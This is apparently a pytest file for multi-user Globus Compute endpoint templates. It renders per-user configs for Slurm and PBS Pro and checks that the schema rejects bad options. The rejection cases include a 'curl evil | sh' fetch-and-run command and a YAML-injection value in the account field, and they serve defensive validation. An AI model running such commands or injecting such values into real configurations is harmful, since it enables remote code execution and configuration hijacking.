"""Multi-user endpoint templates: rendered and loaded by globus-compute-endpoint's own code."""

import os
import pwd
import shutil
import uuid
from pathlib import Path

import jsonschema
import pytest

ROOT = Path(__file__).resolve().parents[1]
MULTI = ROOT / "containers" / "endpoints" / "multi-user"
SITE = {"slurm": ("SlurmProvider", "partition"), "pbspro": ("PBSProProvider", "queue")}


def _render(tmp_path: Path, scheduler: str, options: dict):
    """The endpoint package's path for one user: the manager's config.yaml loaded, the
    template and schema read, the user's options validated and rendered, the result loaded
    as that user's endpoint configuration."""
    from globus_compute_endpoint.endpoint.config.utils import (
        load_config_yaml,
        load_user_config_schema,
        load_user_config_template,
        render_config_user_template,
    )
    from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity

    folder = tmp_path / scheduler
    shutil.copytree(MULTI / scheduler, folder)
    # the shipped config names /root/.globus_compute/...; the loader insists the file exists
    config_text = (folder / "config.yaml").read_text().replace(
        f"/root/.globus_compute/servable-{scheduler}", str(folder))
    parent = load_config_yaml(config_text)
    assert type(parent).__name__ == "CoreEndpointConfig"
    assert Path(parent.identity_mapping_config_path) == folder / "identity_mapping.json"
    template_path = folder / "user_config_template.yaml.j2"
    identity = MappedPosixIdentity(local_user_record=pwd.getpwuid(os.getuid()),
                                   matched_identity=uuid.UUID(int=0),
                                   globus_identity_candidates=[])
    rendered = render_config_user_template(
        parent_config=parent, user_config_template=load_user_config_template(template_path),
        user_config_template_path=template_path, mapped_identity=identity,
        user_config_schema=load_user_config_schema(folder / "user_config_schema.json"),
        user_opts=options, user_runtime={})
    return load_config_yaml(rendered)


CHOICES = {  # user options -> (image file, GPUs per node or None)
    "x86_64-cpu": ({"arch": "x86_64"}, "servable-x86_64.sif", None),
    "x86_64-gpu": ({"arch": "x86_64", "gpu": True, "gpus_per_node": 4}, "servable-cuda.sif", 4),
    "aarch64-cpu": ({"arch": "aarch64", "workers_per_node": 72}, "servable-aarch64.sif", None),
    "aarch64-gpu": ({"arch": "aarch64", "gpu": True}, "servable-aarch64-cuda.sif", 1),
}


@pytest.mark.parametrize("scheduler", sorted(SITE))
@pytest.mark.parametrize("choice", sorted(CHOICES))
def test_rendered_user_config_loads(tmp_path, scheduler, choice):
    options, image, gpus = CHOICES[choice]
    provider_type, queue_key = SITE[scheduler]
    options = {**options, "account": "hep-42", queue_key: "batch_gpu",
               "walltime": "00:30:00", "bundles_dir": "/home/alice/bundles"}
    config = _render(tmp_path, scheduler, options)
    assert type(config).__name__ == "UserEndpointConfig"
    engine = config.engine
    try:
        assert type(engine).__name__ == "GlobusComputeEngine"
        assert engine.container_type == "apptainer"
        assert engine.container_uri == f"/opt/servable/images/{image}"
        flags = engine.container_cmd_options.split()
        assert ("--nv" in flags) == (gpus is not None)
        assert "/home/alice/bundles:/bundles:ro" in flags
        assert "SERVABLE_BUNDLE_PATH=/bundles" in flags
        provider = engine.provider
        assert type(provider).__name__ == provider_type
        assert provider.account == "hep-42" and provider.walltime == "00:30:00"
        assert getattr(provider, queue_key) == "batch_gpu"
        workers = engine.executor.max_workers_per_node
        if gpus is None:
            assert workers == options.get("workers_per_node", 4)
        else:
            assert workers == gpus
            assert len(engine.executor.available_accelerators) == gpus
            gpu_line = (provider.scheduler_options if scheduler == "slurm"
                        else provider.select_options)
            assert str(gpus) in gpu_line
    finally:
        engine.shutdown()


@pytest.mark.parametrize("scheduler", sorted(SITE))
@pytest.mark.parametrize("bad", [
    {"arch": "ppc64le"},  # no worker image for POWER (no endpoint engines there)
    {"arch": "x86_64", "worker_init": "curl evil | sh"},  # not a user's choice
    {"arch": "x86_64", "bundles_dir": "/data/my bundles"},  # a space would split the flags
    {"arch": "x86_64", "bundles_dir": "relative/path"},
    {"arch": "x86_64", "walltime": "1h"},
    {"arch": "x86_64", "account": "x\nengine: {type: ThreadPoolEngine}"},  # YAML injection
    {"arch": "x86_64", "gpu": "yes"},
])
def test_schema_refuses_bad_choices(tmp_path, scheduler, bad):
    options = {"account": "hep-42", SITE[scheduler][1]: "batch", **bad}
    with pytest.raises(jsonschema.ValidationError):
        _render(tmp_path, scheduler, options)


@pytest.mark.parametrize("scheduler", sorted(SITE))
def test_required_choices(tmp_path, scheduler):
    with pytest.raises(jsonschema.ValidationError, match="'arch' is a required property"):
        _render(tmp_path, scheduler, {"account": "hep-42", SITE[scheduler][1]: "batch"})
